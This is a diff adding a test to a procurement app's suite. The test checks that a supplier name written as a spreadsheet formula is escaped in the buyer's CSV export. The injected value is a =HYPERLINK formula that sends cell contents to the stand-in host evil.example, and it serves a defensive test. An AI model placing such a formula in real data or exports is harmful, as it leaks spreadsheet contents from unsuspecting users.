@@ -200,6 +200,21 @@ describe("after the deadline", () => {
     expect(text).toContain(`${bidderB.legalName},200,${PRICE_B}`);
   });
 
+  it("CSV formula injection: a supplier named =HYPERLINK(…) lands in the buyer's CSV as text, not a formula", async () => {
+    vi.setSystemTime(new Date(deadline.getTime() + 1000));
+    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"klik")';
+    await getDb().updateTable("organizations").set({ legal_name: formula }).where("id", "=", bidderA.organizationId).execute();
+    try {
+      const cookie = await cookieFor(buyer.userId, buyer.organizationId);
+      const csv = await settle(() => csvLoader(args(getRequest(`/rfqs/${rfqId}/compare.csv`, cookie), { id: String(rfqId) })));
+      const text = await (csv.value as Response).text();
+      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""klik"")"`);
+      expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
+    } finally {
+      await getDb().updateTable("organizations").set({ legal_name: bidderA.legalName }).where("id", "=", bidderA.organizationId).execute();
+    }
+  });
+
   it("a bid one second after the deadline is refused through the form with the message, nothing written", async () => {
     vi.setSystemTime(new Date(deadline.getTime() + 1000));
     const cookie = await cookieFor(bidderA.userId, bidderA.organizationId);
